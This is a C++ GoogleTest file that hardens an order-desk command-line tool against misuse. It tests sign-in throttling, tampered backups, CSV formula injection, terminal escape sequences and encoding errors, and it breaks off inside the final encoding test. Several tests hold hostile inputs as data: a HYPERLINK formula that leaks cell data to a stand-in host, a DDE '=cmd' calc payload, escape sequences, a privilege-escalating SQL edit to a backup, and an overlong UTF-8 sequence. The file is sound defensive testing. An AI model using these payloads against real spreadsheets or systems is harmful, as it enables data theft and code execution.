// orderdesk-cli probed from outside, the way an attacker or a careless colleague would: files
// written over the database, sign-ins in parallel, a restore used to become administrator,
// numbers with a decimal comma, formulas in exported names, unusable database files, hostile
// text and encodings. Each test is one finding of that probe.
#include "CliRunner.h"
#include "PasswordHasher.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QScopeGuard>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QStringDecoder>
#include <QThread>

#include <gtest/gtest.h>

#include <sys/stat.h>

#include <algorithm>
#include <limits>
#include <memory>
#include <vector>

using od::test::CliRun;
using od::test::CliRunner;

namespace {

const QString kAdminPassword = QStringLiteral("first-admin-pw");

QString passwordOf(const QString& user)
{
    return user == QLatin1String("admin") ? kAdminPassword : user + QStringLiteral("-password-1");
}

QStringList args(const QString& db, const QString& user, const QStringList& rest)
{
    QStringList out{QStringLiteral("--db"), db};
    if (!user.isEmpty())
        out << QStringLiteral("--user") << user;
    return out + rest;
}

void writeFile(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly | QIODevice::Truncate)) << path.toStdString();
    file.write(bytes);
}

QByteArray contentOf(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// "600" for rw-------; "missing" when there is no such file.
std::string modeOf(const QString& path)
{
    struct stat st
    {
    };
    if (::stat(QFile::encodeName(path).constData(), &st) != 0)
        return "missing";
    return QString::number(st.st_mode & 07777, 8).toStdString();
}

// A connection of the test's own to a database file, as another program would have.
class RawDatabase
{
public:
    explicit RawDatabase(const QString& path)
        : m_name(QStringLiteral("raw-%1").arg(reinterpret_cast<quintptr>(this)))
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), m_name);
        db.setDatabaseName(path);
        db.setConnectOptions(QStringLiteral("QSQLITE_BUSY_TIMEOUT=10000"));
        EXPECT_TRUE(db.open()) << path.toStdString();
    }
    ~RawDatabase()
    {
        {
            QSqlDatabase db = QSqlDatabase::database(m_name, false);
            db.close();
        }
        QSqlDatabase::removeDatabase(m_name);
    }
    bool exec(const QString& sql)
    {
        QSqlQuery q(QSqlDatabase::database(m_name, false));
        const bool ok = q.exec(sql);
        EXPECT_TRUE(ok) << sql.toStdString() << ": " << q.lastError().text().toStdString();
        return ok;
    }
    QVariant scalar(const QString& sql)
    {
        QSqlQuery q(QSqlDatabase::database(m_name, false));
        if (!q.exec(sql) || !q.next())
            return {};
        return q.value(0);
    }

private:
    QString m_name;
};

qint64 count(const QString& db, const QString& sql)
{
    RawDatabase raw(db);
    return raw.scalar(sql).toLongLong();
}

// A company as `init` makes it, with a finance clerk (zhao), two salespeople (wang, chen) and a
// manager (li), each signing in with passwordOf(name). Made once and copied for each test (the
// accounts cost a few Argon2id hashes each), unless a test needs a company of its own.
class Office
{
public:
    enum class Company
    {
        Shared, // a copy of the one made first: the same company
        Own     // made afresh: another company
    };

    explicit Office(const QString& file = QStringLiteral("office.orderdesk"),
                    Company company = Company::Shared)
    {
        db = cli.database(file);
        if (company == Company::Shared) {
            static const std::unique_ptr<Office> original = std::make_unique<Office>(file, Company::Own);
            EXPECT_TRUE(QFile::copy(original->db, db));
            return;
        }
        cli.setEnvironment(QStringLiteral("ORDERDESK_NEW_PASSWORD"), kAdminPassword);
        const CliRun init = cli.run(args(db, {}, {QStringLiteral("init")}));
        EXPECT_EQ(init.exitCode, 0) << init.err.toStdString();
        for (const auto& [name, role] : {std::pair{"zhao", "finance_clerk"}, std::pair{"wang", "salesperson"},
                                         std::pair{"chen", "salesperson"}, std::pair{"li", "manager"}}) {
            cli.setEnvironment(QStringLiteral("ORDERDESK_NEW_PASSWORD"),
                               passwordOf(QString::fromLatin1(name)));
            const CliRun added = as(QStringLiteral("admin"),
                                    {QStringLiteral("user"), QStringLiteral("add"), QString::fromLatin1(name),
                                     QStringLiteral("--role"), QString::fromLatin1(role)});
            EXPECT_EQ(added.exitCode, 0) << added.err.toStdString();
        }
    }

    CliRun as(const QString& user, const QStringList& rest)
    {
        cli.setEnvironment(QStringLiteral("ORDERDESK_PASSWORD"), passwordOf(user));
        return cli.run(args(db, user, rest));
    }
    CliRun anonymous(const QStringList& rest) { return cli.run(args(db, {}, rest)); }
    QString file(const QString& name) const { return cli.dir() + u'/' + name; }

    // Imports a CSV file as the manager.
    CliRun import(const QString& kind, const QString& name, const QByteArray& csv, const QString& user = "li")
    {
        const QString path = file(name);
        writeFile(path, csv);
        return as(user, {QStringLiteral("import"), kind, path});
    }

    CliRunner cli;
    QString db;
};

const QByteArray kCustomers =
    "code,name,credit_limit\nC001,上海申通阀门有限公司,50000.00\nC002,北京远航贸易,0\n";
const QByteArray kProducts =
    "sku,name,unit,unit_price\nVLV-50,不锈钢球阀,台,125.00\nFL-DN100,法兰,片,85.50\n";
const QByteArray kOrderHeader =
    "order_no,customer_code,order_date,requested_date,status,line_no,sku,description,quantity,unit_price,"
    "discount_percent\n";

void addCatalog(Office& office)
{
    ASSERT_EQ(office.import(QStringLiteral("customers"), QStringLiteral("c.csv"), kCustomers).exitCode, 0);
    ASSERT_EQ(office.import(QStringLiteral("products"), QStringLiteral("p.csv"), kProducts).exitCode, 0);
}

} // namespace

// 1. An export or backup given the live database (or its -wal) as its file refuses and writes nothing.
TEST(CliHardening, ExportOrBackupOverTheLiveDatabaseIsRefusedAndTheDatabaseKeepsWorking)
{
    Office office;
    addCatalog(office);
    for (const QString& target : QStringList{office.db, office.db + QStringLiteral("-wal")}) {
        SCOPED_TRACE(target.toStdString());
        const CliRun exported = office.as(QStringLiteral("wang"),
                                          {QStringLiteral("export"), QStringLiteral("customers"), target});
        EXPECT_EQ(exported.exitCode, 1) << exported.out.toStdString();
        EXPECT_TRUE(exported.err.contains(QLatin1String("is the database OrderDesk is working on")))
            << exported.err.toStdString();
        EXPECT_FALSE(exported.out.contains(QLatin1String("Wrote")));
        const CliRun backup = office.as(QStringLiteral("admin"), {QStringLiteral("backup"), target});
        EXPECT_EQ(backup.exitCode, 1) << backup.out.toStdString();
    }
    EXPECT_TRUE(contentOf(office.db).startsWith("SQLite format 3"));
    const CliRun check = office.anonymous({QStringLiteral("check")});
    EXPECT_EQ(check.exitCode, 0) << check.out.toStdString() << check.err.toStdString();
    EXPECT_EQ(count(office.db, QStringLiteral("SELECT count(*) FROM customers")), 2);
}

// 2. Ten sign-ins started at once after the wait: only the one attempt the throttle allows is checked.
TEST(CliHardening, ParallelSignInsGetNoMoreAttemptsThanTheThrottleAllows)
{
    Office office;
    office.cli.setEnvironment(QStringLiteral("ORDERDESK_PASSWORD"), QStringLiteral("wrong-guess"));
    for (int i = 0; i < 3; ++i) // the free attempts
        EXPECT_EQ(office.cli
                      .run(args(office.db, QStringLiteral("zhao"),
                                {QStringLiteral("user"), QStringLiteral("list")}))
                      .exitCode,
                  1);
    QThread::msleep(2500); // the wait after three failures

    auto burst = [&](const QStringList& passwords) {
        std::vector<std::unique_ptr<QProcess>> running;
        for (const QString& password : passwords) {
            office.cli.setEnvironment(QStringLiteral("ORDERDESK_PASSWORD"), password);
            running.push_back(office.cli.start(
                args(office.db, QStringLiteral("zhao"),
                     {QStringLiteral("orders"), QStringLiteral("--limit"), QStringLiteral("1")})));
        }
        int checked = 0;
        int signedIn = 0;
        for (auto& process : running) {
            const CliRun run = CliRunner::finish(*process);
            if (run.exitCode == 0)
                ++signedIn;
            else if (run.err.contains(QLatin1String("Wrong user name or password")))
                ++checked;
            else
                EXPECT_TRUE(run.err.contains(QLatin1String("Too many failed attempts")))
                    << run.err.toStdString();
        }
        return std::pair{checked, signedIn};
    };
    QStringList wrong;
    for (int i = 0; i < 10; ++i)
        wrong << QStringLiteral("guess-%1").arg(i);
    const auto [checked, signedIn] = burst(wrong);
    EXPECT_EQ(signedIn, 0);
    EXPECT_EQ(checked, 1) << "ten attempts at once after a wait: one is checked, nine wait";

    // Nine wrong and the right one at once: at most one of them is even looked at.
    QThread::msleep(4500);
    QStringList mixed = wrong.mid(0, 9);
    mixed.insert(4, passwordOf(QStringLiteral("zhao")));
    const auto [checkedAgain, signedInAgain] = burst(mixed);
    EXPECT_LE(checkedAgain + signedInAgain, 1);
}

// 3. A finance clerk cannot restore; a backup whose users were edited is refused as tampered;
//    another company's backup needs --other-company; the restore is audited where it lands.
TEST(CliHardening, RestoreIsForAdministratorsAndRefusesAlteredUsersAndAsksAboutAnotherCompany)
{
    Office office;
    addCatalog(office);
    const QString copy = office.file(QStringLiteral("copy.orderdesk"));
    ASSERT_EQ(office.as(QStringLiteral("zhao"), {QStringLiteral("backup"), copy}).exitCode, 0);
    {
        RawDatabase raw(copy);
        raw.exec(QStringLiteral("UPDATE users SET role = 'administrator' WHERE name = 'zhao'"));
    }
    const CliRun byClerk = office.as(QStringLiteral("zhao"), {QStringLiteral("restore"), copy});
    EXPECT_EQ(byClerk.exitCode, 1) << byClerk.out.toStdString();
    EXPECT_TRUE(byClerk.err.contains(QLatin1String("may not restore"))) << byClerk.err.toStdString();

    const CliRun tampered = office.as(QStringLiteral("admin"), {QStringLiteral("restore"), copy});
    EXPECT_EQ(tampered.exitCode, 1) << tampered.out.toStdString();
    EXPECT_TRUE(tampered.err.contains(QLatin1String("zhao"))) << tampered.err.toStdString();
    EXPECT_TRUE(tampered.err.contains(QLatin1String("was not restored"))) << tampered.err.toStdString();
    EXPECT_EQ(count(office.db, QStringLiteral("SELECT count(*) FROM users WHERE role = 'administrator'")), 1);

    // A password hash swapped in the copy is found the same way.
    const QString swapped = office.file(QStringLiteral("swapped.orderdesk"));
    ASSERT_EQ(office.as(QStringLiteral("admin"), {QStringLiteral("backup"), swapped}).exitCode, 0);
    {
        RawDatabase raw(swapped);
        raw.exec(QStringLiteral("UPDATE users SET password_hash = (SELECT password_hash FROM users WHERE "
                                "name = 'zhao') WHERE name = 'admin'"));
    }
    const CliRun swappedRun = office.as(QStringLiteral("admin"), {QStringLiteral("restore"), swapped});
    EXPECT_EQ(swappedRun.exitCode, 1) << swappedRun.out.toStdString();
    EXPECT_TRUE(swappedRun.err.contains(QLatin1String("admin"))) << swappedRun.err.toStdString();

    Office other(QStringLiteral("other-company.orderdesk"), Office::Company::Own);
    const QString foreign = office.file(QStringLiteral("other-backup.orderdesk"));
    ASSERT_EQ(other.as(QStringLiteral("admin"), {QStringLiteral("backup"), foreign}).exitCode, 0);
    const CliRun unconfirmed = office.as(QStringLiteral("admin"), {QStringLiteral("restore"), foreign});
    EXPECT_EQ(unconfirmed.exitCode, 1) << unconfirmed.out.toStdString();
    EXPECT_TRUE(unconfirmed.err.contains(QLatin1String("--other-company"))) << unconfirmed.err.toStdString();
    const CliRun confirmed = office.as(
        QStringLiteral("admin"), {QStringLiteral("restore"), foreign, QStringLiteral("--other-company")});
    EXPECT_EQ(confirmed.exitCode, 0) << confirmed.err.toStdString();
    EXPECT_EQ(
        count(office.db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'database.restore'")),
        1);
    EXPECT_EQ(office.anonymous({QStringLiteral("audit"), QStringLiteral("verify")}).exitCode, 0);
}

// 4. A comma is a thousands separator only where it separates thousands.
TEST(CliHardening, ADecimalCommaIsAnErrorWithItsLineNotAThousandsSeparator)
{
    Office office;
    addCatalog(office);
    const CliRun customers = office.import(
        QStringLiteral("customers"), QStringLiteral("comma.csv"),
        "code,name,credit_limit\nC101,甲公司,\"12,5\"\nC102,乙公司,\"1,2,3\"\nC103,丙公司,\"1,234.50\"\n");
    EXPECT_EQ(customers.exitCode, 1);
    EXPECT_TRUE(customers.err.contains(office.file(QStringLiteral("comma.csv:2:"))))
        << customers.err.toStdString();
    EXPECT_TRUE(customers.err.contains(office.file(QStringLiteral("comma.csv:3:"))))
        << customers.err.toStdString();
    EXPECT_FALSE(customers.err.contains(office.file(QStringLiteral("comma.csv:4:"))))
        << customers.err.toStdString();

    const CliRun orders =
        office.import(QStringLiteral("orders"), QStringLiteral("qty.csv"),
                      kOrderHeader + ",C001,2026-06-01,2026-07-01,draft,1,VLV-50,,\"2,5\",,\n");
    EXPECT_EQ(orders.exitCode, 1);
    EXPECT_TRUE(orders.err.contains(office.file(QStringLiteral("qty.csv:2:")))) << orders.err.toStdString();
    EXPECT_EQ(count(office.db, QStringLiteral("SELECT count(*) FROM orders")), 0);
}

// 5. Names that a spreadsheet would run as formulas are exported harmless and come back as they were.
TEST(CliHardening, FormulasInExportedNamesAreDefusedAndRoundTrip)
{
    Office office;
    const QStringList names{QStringLiteral("=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Click\")"),
                            QStringLiteral("=1+1"),
                            QStringLiteral("+1-555"),
                            QStringLiteral("@SUM(1)"),
                            QStringLiteral("=cmd|' /C calc'!A0"),
                            QStringLiteral("-2+3")};
    QByteArray csv = "code,name,phone\n";
    for (int i = 0; i < names.size(); ++i) {
        QString quoted = names[i];
        quoted.replace(u'"', QStringLiteral("\"\""));
        csv += QStringLiteral("F%1,\"%2\",+86 21 5555 0%1\n").arg(i).arg(quoted).toUtf8();
    }
    ASSERT_EQ(office.import(QStringLiteral("customers"), QStringLiteral("formulas.csv"), csv).exitCode, 0);
    const QString exported = office.file(QStringLiteral("exported.csv"));
    ASSERT_EQ(
        office.as(QStringLiteral("li"), {QStringLiteral("export"), QStringLiteral("customers"), exported})
            .exitCode,
        0);
    const QString text = QString::fromUtf8(contentOf(exported));
    for (const QString& line : text.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts).mid(1)) {
        const QStringList cells = line.split(u',');
        for (const QString& cell : cells.mid(1, 1)) {
            const QString value = cell.startsWith(u'"') ? cell.mid(1) : cell;
            EXPECT_FALSE(value.startsWith(u'=') || value.startsWith(u'+') || value.startsWith(u'-') ||
                         value.startsWith(u'@'))
                << line.toStdString();
        }
    }

    Office copy(QStringLiteral("copy.orderdesk"));
    ASSERT_EQ(copy.as(QStringLiteral("li"), {QStringLiteral("import"), QStringLiteral("customers"), exported})
                  .exitCode,
              0);
    RawDatabase raw(copy.db);
    for (int i = 0; i < names.size(); ++i)
        EXPECT_EQ(
            raw.scalar(QStringLiteral("SELECT name FROM customers WHERE code = 'F%1'").arg(i)).toString(),
            names[i]);
    EXPECT_EQ(raw.scalar(QStringLiteral("SELECT phone FROM customers WHERE code = 'F0'")).toString(),
              QStringLiteral("+86 21 5555 00"));
}

// 6. The desktop app's old data folder: a database found there is moved to the one folder both use.
TEST(CliHardening, ADatabaseInTheOldDesktopFolderIsMovedToTheSharedOne)
{
    Office office;
    const QString dataHome = office.cli.dir() + QStringLiteral("/data");
    const QString oldPlace = dataHome + QStringLiteral("/OrderDesk/OrderDesk/orderdesk.sqlite");
    const QString newPlace = dataHome + QStringLiteral("/OrderDesk/orderdesk.sqlite");
    ASSERT_TRUE(QDir().mkpath(QFileInfo(oldPlace).absolutePath()));
    ASSERT_TRUE(QFile::rename(office.db, oldPlace));
    ASSERT_FALSE(QFileInfo::exists(newPlace));

    const CliRun summary = office.cli.run({QStringLiteral("summary")});
    EXPECT_EQ(summary.exitCode, 0) << summary.err.toStdString();
    EXPECT_TRUE(summary.err.contains(QDir::toNativeSeparators(newPlace))) << summary.err.toStdString();
    EXPECT_TRUE(QFileInfo::exists(newPlace));
    EXPECT_FALSE(QFileInfo::exists(oldPlace));
    EXPECT_EQ(office.cli.run({QStringLiteral("audit"), QStringLiteral("verify")}).exitCode, 0);
}

// 7 and 8. While another program holds the write lock (a long import), a backup is whole and
// its audit entry waits; signing in works, says why changes wait, and its record is not lost.
TEST(CliHardening, BackupAndSignInWhileTheWriteLockIsHeldAreWholeAndAuditedLater)
{
    Office office;
    addCatalog(office);
    const QString backup = office.file(QStringLiteral("during-import.orderdesk"));
    const qint64 signInsBefore =
        count(office.db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'user.sign_in'"));
    {
        RawDatabase importer(office.db);
        importer.exec(QStringLiteral("BEGIN IMMEDIATE"));
        importer.exec(QStringLiteral("INSERT INTO settings (key, value) VALUES ('import.in_progress', '1')"));

        QElapsedTimer timer;
        timer.start();
        const CliRun list = office.as(QStringLiteral("wang"), {QStringLiteral("orders")});
        EXPECT_EQ(list.exitCode, 0) << list.err.toStdString();
        EXPECT_LT(timer.elapsed(), 4000) << "signing in must not wait for the write lock";
        EXPECT_TRUE(list.err.contains(QLatin1String("changes"))) << list.err.toStdString();

        const CliRun backedUp = office.as(QStringLiteral("li"), {QStringLiteral("backup"), backup});
        EXPECT_EQ(backedUp.exitCode, 0) << backedUp.err.toStdString();
        importer.exec(QStringLiteral("ROLLBACK"));
    }
    EXPECT_EQ(count(backup, QStringLiteral("SELECT count(*) FROM customers")), 2);
    // The next sign-in writes what waited.
    EXPECT_EQ(office.as(QStringLiteral("admin"), {QStringLiteral("user"), QStringLiteral("list")}).exitCode,
              0);
    EXPECT_EQ(
        count(office.db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'database.backup'")),
        1);
    EXPECT_GE(
        count(office.db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'user.sign_in' AND "
                                        "user_name = 'wang'")),
        1);
    EXPECT_GT(
        count(office.db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'user.sign_in'")),
        signInsBefore + 2);
    EXPECT_EQ(office.anonymous({QStringLiteral("audit"), QStringLiteral("verify")}).exitCode, 0);
}

// 9. Order numbers have a format, a length and are unique whatever their case; texts have caps.
TEST(CliHardening, OrderImportRefusesMalformedOrDuplicateNumbersAndHugeTexts)
{
    Office office;
    addCatalog(office);
    ASSERT_EQ(office
                  .import(QStringLiteral("orders"), QStringLiteral("first.csv"),
                          kOrderHeader + "SO-2026-000466,C001,2026-06-01,2026-07-01,draft,1,VLV-50,,1,,\n")
                  .exitCode,
              0);
    const QByteArray line = ",C001,2026-06-01,2026-07-01,draft,1,VLV-50,,1,,\n";
    QByteArray csv = kOrderHeader;
    csv += QByteArray(1 << 20, 'A') + line; // 2
    csv += "=1+1" + line;                   // 3
    csv += "SO 2026 1" + line;              // 4
    csv += "so-2026-000466" + line;         // 5
    csv += "SO-2026-000900,C001,2026-06-01,2026-07-01,draft,1,VLV-50," + QByteArray(1 << 20, 'x') +
           ",1,,\n"; // 6
    const CliRun run = office.import(QStringLiteral("orders"), QStringLiteral("bad.csv"), csv);
    EXPECT_EQ(run.exitCode, 1);
    for (int l = 2; l <= 6; ++l)
        EXPECT_TRUE(run.err.contains(office.file(QStringLiteral("bad.csv:%1:").arg(l))))
            << "line " << l << ": " << run.err.left(2000).toStdString();
    EXPECT_LT(run.err.size(), 20'000) << "messages quote a cut-down value, not a megabyte";
    EXPECT_EQ(count(office.db, QStringLiteral("SELECT count(*) FROM orders")), 1);
}

// 10. Terminal control sequences are refused on the way in and never printed raw on the way out.
TEST(CliHardening, ControlCharactersAreRefusedInImportsAndNeverReachTheTerminal)
{
    Office office;
    addCatalog(office);
    const CliRun refused = office.import(QStringLiteral("customers"), QStringLiteral("esc.csv"),
                                         "code,name\nC201,\"Evil\x1b]0;pwned\x07\x1b[2J Ltd\"\n");
    EXPECT_EQ(refused.exitCode, 1);
    EXPECT_TRUE(refused.err.contains(office.file(QStringLiteral("esc.csv:2:")))) << refused.err.toStdString();
    EXPECT_FALSE(refused.err.contains(QChar(0x1b)));

    // Text that reached the database before (or behind the app's back) is shown defused.
    ASSERT_EQ(
        office
            .import(QStringLiteral("orders"), QStringLiteral("o.csv"),
                    kOrderHeader + "SO-2026-000001,C001,2026-06-01,2026-07-01,draft,1,VLV-50,DN50,1,,\n")
            .exitCode,
        0);
    {
        RawDatabase raw(office.db);
        raw.exec(QStringLiteral("UPDATE orders SET customer_name = 'Evil' || char(27) || '[2J' || char(7)"));
        raw.exec(
            QStringLiteral("UPDATE order_lines SET description = 'x' || char(27) || ']0;owned' || char(7)"));
    }
    const CliRun list = office.as(QStringLiteral("li"), {QStringLiteral("orders")});
    EXPECT_EQ(list.exitCode, 0) << list.err.toStdString();
    EXPECT_TRUE(list.out.contains(QLatin1String("Evil"))) << list.out.toStdString();
    const CliRun show =
        office.as(QStringLiteral("li"), {QStringLiteral("show"), QStringLiteral("SO-2026-000001")});
    EXPECT_EQ(show.exitCode, 0) << show.err.toStdString();
    for (const CliRun& run : {list, show}) {
        EXPECT_FALSE(run.out.contains(QChar(0x1b))) << run.out.toStdString();
        EXPECT_FALSE(run.out.contains(QChar(0x07))) << run.out.toStdString();
    }
}

// 11. An unknown name, a throttled name and a disabled account get the same answer in about the
//     same time as a wrong password.
TEST(CliHardening, SignInFailuresAllGetTheSameAnswerInSimilarTime)
{
    Office office;
    ASSERT_EQ(office
                  .as(QStringLiteral("admin"),
                      {QStringLiteral("user"), QStringLiteral("disable"), QStringLiteral("chen")})
                  .exitCode,
              0);
    auto attempt = [&](const QString& user, const QString& password, qint64* ms) {
        office.cli.setEnvironment(QStringLiteral("ORDERDESK_PASSWORD"), password);
        QElapsedTimer timer;
        timer.start();
        const CliRun run =
            office.cli.run(args(office.db, user, {QStringLiteral("user"), QStringLiteral("list")}));
        *ms = timer.elapsed();
        EXPECT_EQ(run.exitCode, 1) << user.toStdString();
        return run.err.trimmed();
    };
    // Times are the fastest of a few tries: a busy machine only ever adds to them.
    auto fastest = [&](const QString& user, const QString& password, int tries, QString* answer) {
        qint64 best = std::numeric_limits<qint64>::max();
        for (int i = 0; i < tries; ++i) {
            qint64 ms = 0;
            const QString said = attempt(user, password, &ms);
            if (i == 0)
                *answer = said;
            best = std::min(best, ms);
        }
        return best;
    };
    QString wrong, unknown, disabled, throttled, unknownThrottled;
    const qint64 wrongMs = fastest(QStringLiteral("wang"), QStringLiteral("not-it-1"), 3, &wrong);
    const qint64 unknownMs = fastest(QStringLiteral("nobody"), QStringLiteral("not-it-1"), 3, &unknown);
    const qint64 disabledMs =
        fastest(QStringLiteral("chen"), passwordOf(QStringLiteral("chen")), 3, &disabled);
    EXPECT_EQ(unknown, wrong);
    EXPECT_EQ(disabled, wrong);
    for (int i = 0; i < 3; ++i) {
        qint64 ignored = 0;
        attempt(QStringLiteral("li"), QStringLiteral("guess-%1").arg(i), &ignored);
    }
    const qint64 throttledMs = fastest(QStringLiteral("li"), QStringLiteral("guess-x"), 2, &throttled);
    EXPECT_TRUE(throttled.contains(QLatin1String("Too many failed attempts"))) << throttled.toStdString();
    // Unknown names are throttled the same way: the answer does not tell which names exist.
    for (int i = 0; i < 3; ++i) {
        qint64 ignored = 0;
        attempt(QStringLiteral("nobody2"), QStringLiteral("guess-%1").arg(i), &ignored);
    }
    const qint64 unknownThrottledMs =
        fastest(QStringLiteral("nobody2"), QStringLiteral("guess-x"), 2, &unknownThrottled);
    EXPECT_EQ(unknownThrottled.left(unknownThrottled.indexOf(u'.')), throttled.left(throttled.indexOf(u'.')));
    // Each answer costs one Argon2id check, as a wrong password does. The floor is that check
    // measured here, not the wrong password's time: that one also writes the failure to disk,
    // which a machine busy with other work can make arbitrarily slow.
    qint64 checkMs = std::numeric_limits<qint64>::max();
    const QString stored = od::PasswordHasher::hash(QStringLiteral("a password of someone"));
    for (int i = 0; i < 5; ++i) {
        QElapsedTimer timer;
        timer.start();
        EXPECT_FALSE(od::PasswordHasher::verify(stored, QStringLiteral("not-it-1")));
        checkMs = std::min(checkMs, timer.elapsed());
    }
    // Half a check: a path that skipped the check entirely costs only the process's start, and a
    // busy machine (a clean CI build beside it) slowed the in-process check by half again once.
    for (qint64 ms : {wrongMs, unknownMs, disabledMs, throttledMs, unknownThrottledMs})
        EXPECT_GT(ms, checkMs / 2)
            << "one check " << checkMs << " ms, wrong password " << wrongMs << " ms";
}

// 12. A dry run needs the import permission; `show` answers a colleague's order like a missing one.
TEST(CliHardening, DryRunNeedsTheImportPermissionAndShowDoesNotTellColleaguesOrdersExist)
{
    Office office;
    addCatalog(office);
    ASSERT_EQ(
        office
            .import(QStringLiteral("orders"), QStringLiteral("o.csv"),
                    kOrderHeader + "SO-2026-000010,C001,2026-06-01,2026-07-01,draft,1,VLV-50,DN50,1,,\n")
            .exitCode,
        0);
    {
        RawDatabase raw(office.db);
        raw.exec(
            QStringLiteral("UPDATE orders SET salesperson_id = (SELECT id FROM users WHERE name = 'chen')"));
    }
    const QString probe = office.file(QStringLiteral("probe.csv"));
    writeFile(probe, kOrderHeader + "SO-2026-000010,C001,2026-06-01,2026-07-01,draft,1,VLV-50,DN50,1,,\n");
    const CliRun dryRun =
        office.as(QStringLiteral("wang"),
                  {QStringLiteral("import"), QStringLiteral("orders"), probe, QStringLiteral("--dry-run")});
    EXPECT_EQ(dryRun.exitCode, 1);
    EXPECT_TRUE(dryRun.err.contains(QLatin1String("may not import"))) << dryRun.err.toStdString();
    EXPECT_FALSE(dryRun.err.contains(QLatin1String("already exists"))) << dryRun.err.toStdString();

    const CliRun colleagues =
        office.as(QStringLiteral("wang"), {QStringLiteral("show"), QStringLiteral("SO-2026-000010")});
    const CliRun missing =
        office.as(QStringLiteral("wang"), {QStringLiteral("show"), QStringLiteral("SO-2026-000011")});
    EXPECT_EQ(colleagues.exitCode, missing.exitCode);
    QString colleaguesText = colleagues.err;
    EXPECT_EQ(colleaguesText.replace(QLatin1String("000010"), QLatin1String("000011")), missing.err);
    EXPECT_EQ(office.as(QStringLiteral("chen"), {QStringLiteral("show"), QStringLiteral("SO-2026-000010")})
                  .exitCode,
              0);
}

// 13. The log, its folder and exported files are for their owner only, like the database.
TEST(CliHardening, LogFileItsFolderAndExportsAreOwnerOnly)
{
    Office office;
    addCatalog(office);
    const QString exported = office.file(QStringLiteral("customers.csv"));
    ASSERT_EQ(
        office.as(QStringLiteral("li"), {QStringLiteral("export"), QStringLiteral("customers"), exported})
            .exitCode,
        0);
    EXPECT_EQ(modeOf(exported), "600");
    const QString dataDir = office.cli.dir() + QStringLiteral("/data/OrderDesk");
    EXPECT_EQ(modeOf(dataDir), "700");
    EXPECT_EQ(modeOf(dataDir + QStringLiteral("/orderdesk.log")), "600");
    EXPECT_EQ(modeOf(office.db + QStringLiteral("-access")), "600");
}

// 14. Unusable files: a read-only database still reads; anything else is a sentence, exit 1, and
//     nothing is created by a read.
TEST(CliHardening, UnusableDatabaseFilesGetAClearAnswerAndReadingCreatesNothing)
{
    CliRunner cli;
    const QString empty = cli.database(QStringLiteral("empty.orderdesk"));
    writeFile(empty, {});
    const CliRun onEmpty = cli.run(args(empty, {}, {QStringLiteral("summary")}));
    EXPECT_EQ(onEmpty.exitCode, 1);
    EXPECT_EQ(QFileInfo(empty).size(), 0) << "a read created the schema";
    EXPECT_FALSE(onEmpty.err.contains(QLatin1String("removeDatabase"))) << onEmpty.err.toStdString();

    const QString text = cli.database(QStringLiteral("notes.txt"));
    writeFile(text, QByteArray("these are my notes, not a database\n").repeated(200));
    for (const QStringList& command :
         {QStringList{QStringLiteral("summary")}, QStringList{QStringLiteral("check")},
          QStringList{QStringLiteral("audit"), QStringLiteral("verify")}}) {
        const CliRun run = cli.run(args(text, {}, command));
        EXPECT_EQ(run.exitCode, 1) << command.join(u' ').toStdString();
        EXPECT_TRUE(run.err.contains(QLatin1String("is not an OrderDesk database"))) << run.err.toStdString();
        EXPECT_FALSE(run.err.contains(QLatin1String("removeDatabase"))) << run.err.toStdString();
        EXPECT_FALSE(run.err.contains(QLatin1String("file is not a database"))) << run.err.toStdString();
    }

    Office office;
    addCatalog(office);
    // Read-only even for root: the file is made immutable.
    const QByteArray file = QFile::encodeName(office.db);
    if (QProcess::execute(QStringLiteral("chattr"), {QStringLiteral("+i"), office.db}) != 0)
        GTEST_SKIP() << "chattr +i is not available here; cannot make the file read-only for every user";
    auto unlock = qScopeGuard([&] {
        QProcess::execute(QStringLiteral("chattr"), {QStringLiteral("-i"), office.db});
    });
    for (const QStringList& command :
         {QStringList{QStringLiteral("summary")}, QStringList{QStringLiteral("check")},
          QStringList{QStringLiteral("audit"), QStringLiteral("verify")}}) {
        const CliRun run = office.anonymous(command);
        EXPECT_EQ(run.exitCode, 0) << command.join(u' ').toStdString() << ": " << run.err.toStdString();
    }
    const CliRun list =
        office.as(QStringLiteral("li"), {QStringLiteral("export"), QStringLiteral("customers"),
                                         office.file(QStringLiteral("ro.csv"))});
    EXPECT_EQ(list.exitCode, 0) << list.err.toStdString();
    const CliRun write =
        office.import(QStringLiteral("customers"), QStringLiteral("more.csv"), "code,name\nC900,只读公司\n");
    EXPECT_EQ(write.exitCode, 1);
    EXPECT_TRUE(write.err.contains(QLatin1String("read-only"))) << write.err.toStdString();
    EXPECT_FALSE(write.err.contains(QLatin1String("attempt to write"))) << write.err.toStdString();
}

// 15. The right line and the right encoding, and no guessing between UTF-8 and GB18030.
TEST(CliHardening, EncodingProblemsNameTheirLineAndEncoding)
{
    Office office;
    const CliRun badByte = office.import(QStringLiteral("customers"), QStringLiteral("bad-byte.csv"),
                                         "code,name\nC1,Alpha\nC2,Beta\nC3,Gamma\nC4,Del\xff"
                                         "ta\n");
    EXPECT_EQ(badByte.exitCode, 1);
    EXPECT_TRUE(badByte.err.contains(office.file(QStringLiteral("bad-byte.csv:5:"))))
        << badByte.err.toStdString();

    QStringEncoder utf32(QStringEncoder::Utf32LE, QStringEncoder::Flag::WriteBom);
    const QByteArray wide = utf32.encode(QStringLiteral("code,name\nC1,上海申通\n"));
    const CliRun utf32Run = office.import(QStringLiteral("customers"), QStringLiteral("wide.csv"), wide);
    EXPECT_EQ(utf32Run.exitCode, 1);
    EXPECT_TRUE(utf32Run.err.contains(QLatin1String("UTF-32"))) << utf32Run.err.toStdString();

    const CliRun overlong = office.import(QStringLiteral("customers"), QStringLiteral("overlong.csv"),
                                          "code,name\nC1,上海申通\nC2,..\xc0\xaf..\n");
